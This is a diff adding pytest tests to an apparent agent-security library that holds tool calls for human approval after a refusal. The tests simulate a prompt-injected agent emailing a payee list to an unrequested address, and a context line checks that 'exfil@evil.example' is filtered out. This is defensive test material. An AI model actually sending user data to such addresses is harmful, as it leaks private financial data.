@@ -6,6 +6,7 @@ functions; the ledger sees their results and policy sees the trace.
 
 from __future__ import annotations
 
+import json
 from collections.abc import Sequence
 
 import pytest
@@ -13,6 +14,7 @@ import pytest
 from tests.conftest import AgentKit, make_agent
 from warrant.config import render_config
 from warrant.enforce import ApprovalRequired, Denied, Guard, Pipeline, SessionLedgers, TrustDomain
+from warrant.errors import StoreError
 from warrant.types import Effect, ToolCall
 
 INBOX = [
@@ -317,3 +319,99 @@ def test_filtering_an_answer_keeps_the_users_part_and_drops_the_injected_one(
     assert "exfil@evil.example" not in shown
     assert session.last_decision is not None
     assert session.last_decision.reasons[0].code == "flow.answer-filtered"
+
+
+PAYEES = [{"name": "Landlord", "iban": "GB33BUKB20201555555555"},
+          {"name": "Mallory Ltd", "iban": "FR1420041010050500013M02606"}]
+
+
+@pytest.fixture
+def payer(domain: TrustDomain) -> AgentKit:
+    return make_agent(domain, "payer", tools=("list_payees", "send_email", "transfer"),
+                      instruction="Pay 20 to DE89370400440532013000.")
+
+
+def payee_tools(guard: Guard) -> tuple[object, object, object]:
+    @guard.tool(risk="read-only")
+    def list_payees() -> list[dict[str, str]]:
+        return PAYEES
+
+    _, send_email, transfer = tools(guard)
+    return list_payees, send_email, transfer
+
+
+def refuse_pending(domain: TrustDomain) -> None:
+    (pending,) = domain.store.approvals.list(pending_only=True, now=0)
+    domain.decide_approval(pending.approval_id, approve=False, by="user:alice")
+
+
+@pytest.mark.claim("flow.refusal-raises-the-guard")
+def test_once_a_human_refused_a_call_paying_a_listed_payee_waits_for_a_human(
+        guard: Guard, domain: TrustDomain, payer: AgentKit) -> None:
+    list_payees, send_email, transfer = payee_tools(guard)
+    with guard.session(credential=payer.credential, warrant=payer.warrant,
+                       agent_key=payer.key):
+        list_payees()  # type: ignore[operator]
+        # Choosing among listed payees needs no human while nothing is suspect...
+        transfer(recipient="GB33BUKB20201555555555", amount=5)  # type: ignore[operator]
+        # ...until the agent tries to send data to an address nobody gave, and the human
+        # says no: from then on it is assumed to act against its user.
+        with pytest.raises(ApprovalRequired):
+            send_email(to="carol@elsewhere.example", body="the payees")  # type: ignore[operator]
+        refuse_pending(domain)
+        with pytest.raises(ApprovalRequired) as held:
+            transfer(recipient="FR1420041010050500013M02606", amount=5)  # type: ignore[operator]
+        # Even what the user named now waits for the human, who can let it through.
+        with pytest.raises(ApprovalRequired):
+            transfer(recipient="DE89370400440532013000", amount=20)  # type: ignore[operator]
+        (pending,) = [a for a in domain.store.approvals.list(pending_only=True, now=0)
+                      if '"DE89370400440532013000"' in json.dumps(a.arguments)]
+        domain.decide_approval(pending.approval_id, approve=True, by="user:alice")
+        assert transfer(recipient="DE89370400440532013000",  # type: ignore[operator]
+                        amount=20) == "paid 20 to DE89370400440532013000"
+    assert "flow.hold-irreversible-after-refusal" in str(held.value)
+    (pending,) = domain.store.approvals.list(pending_only=True, now=0)  # the FR1420 payment
+    assert any("a human refused a call of this session" in r["message"]
+               for r in pending.reasons if r["code"] == "flow.note")
+
+
+@pytest.mark.claim("flow.refusal-raises-the-guard")
+def test_a_refusal_decided_in_another_process_reaches_a_restarted_pep(
+        guard: Guard, domain: TrustDomain, payer: AgentKit) -> None:
+    list_payees, send_email, _ = payee_tools(guard)
+    with guard.session(credential=payer.credential, warrant=payer.warrant,
+                       agent_key=payer.key):
+        list_payees()  # type: ignore[operator]
+        with pytest.raises(ApprovalRequired):
+            send_email(to="carol@elsewhere.example", body="the payees")  # type: ignore[operator]
+    # `warrant approvals deny` runs in its own process, against the same store.
+    other = TrustDomain.open(domain.home)
+    refuse_pending(other)
+    other.close()
+    restarted = Pipeline(domain)
+    decision = restarted.decide(payer.request_call(ToolCall(
+        tool="transfer", arguments={"recipient": "GB33BUKB20201555555555", "amount": 5})))
+    assert decision.effect is Effect.NEEDS_APPROVAL
+    assert "flow.hold-irreversible-after-refusal" in str(decision.reasons)
+
+
+@pytest.mark.claim("flow.fail-closed")
+def test_refusals_that_cannot_be_read_hold_sink_calls(
+        guard: Guard, domain: TrustDomain, payer: AgentKit,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    list_payees, _, transfer = payee_tools(guard)
+
+    def unreadable(task_id: str) -> list[str]:
+        raise StoreError("database is locked")
+
+    with guard.session(credential=payer.credential, warrant=payer.warrant,
+                       agent_key=payer.key):
+        list_payees()  # type: ignore[operator]
+        monkeypatch.setattr(domain.store.approvals, "refused_tools", unreadable)
+        with pytest.raises(ApprovalRequired) as held:
+            transfer(recipient="DE89370400440532013000", amount=20)  # type: ignore[operator]
+        monkeypatch.undo()
+        # A passing fault leaves nothing behind: the next call is judged afresh.
+        assert transfer(recipient="DE89370400440532013000",  # type: ignore[operator]
+                        amount=20) == "paid 20 to DE89370400440532013000"
+    assert "flow.hold-unverified-destination" in str(held.value)
